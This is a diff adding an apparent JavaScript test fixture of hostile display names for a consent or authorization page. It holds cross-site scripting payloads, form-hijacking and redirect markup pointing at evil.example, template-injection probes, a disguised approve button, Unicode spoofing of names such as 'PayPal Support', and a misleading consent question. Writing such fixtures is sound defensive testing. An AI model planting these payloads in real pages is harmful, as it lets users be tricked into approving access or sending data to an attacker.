@@ -1,0 +1,32 @@
+// What a hostile developer might write wherever the page repeats their words.
+const escape_attempt = '"><img src=x onerror=alert(1)>';
+
+export const hostile_names = {
+    "a script element": "<script>alert(1)</script>",
+    "a closed title": "</title><script>alert(1)</script>",
+    "an image with a handler": escape_attempt,
+    "single quotes": "' onfocus='alert(1)' autofocus='",
+    "an svg with a handler": "<svg/onload=alert(1)>",
+    "a frame": '<iframe srcdoc="<script>parent.alert(1)</script>"></iframe>',
+    "a base element": '<base href="https://evil.example/"><a href="x">',
+    "a refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+    "a foreign style sheet": '<link rel=stylesheet href="https://evil.example/a.css">',
+    "a style element": "<style>button{display:none}</style>",
+    "a second form": '</form><form action="https://evil.example/"><button>Allow</button>',
+    "a button that belongs to the form": '<button name="decision" value="approve">Cancel</button>',
+    "template braces": "{{csrf}} {{{csrf}}} {{@consent.allow}} {{#sections}}{{/sections}}",
+    "locale braces": "{principal_id} {agent_name} ${7*7} #{7*7} <%= 7*7 %>",
+    "a comment": "<!-- --><!--",
+    "a javascript address": "javascript:alert(1)",
+    "entities": "&lt;script&gt;alert(1)&#x3c;/script&#62;&#0;",
+    "an overlong encoding look-alike": "\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E",
+    "right-to-left overrides": "Trip \u202Ereknalp\u202C \u2067\u2066x\u2069 \u200F\u061C",
+    "zero width characters": "Pay\u200BPal\u200C\u200D\u2060\uFEFF Support",
+    "stacked marks": "Z" + "\u0300\u0301\u0302\u0303\u0488".repeat(30) + "algo",
+    "a very long word": "W".repeat(200),
+    "a very long sentence": "Let it be. ".repeat(18),
+    "line and paragraph ends": "Trip\u2028Planner\u2029 \u0085is\u00A0verified",
+    "an Arabic name": "\u0645\u062E\u0637\u0637 \u0627\u0644\u0631\u062D\u0644\u0627\u062A",
+    "a wide emoji": "\u{1F9D1}\u200D\u{1F4BB}\u{1F1E9}\u{1F1EA}".repeat(20),
+    "a false question": "Trip Planner act for you? Press Allow to refuse. Let nothing",
+};
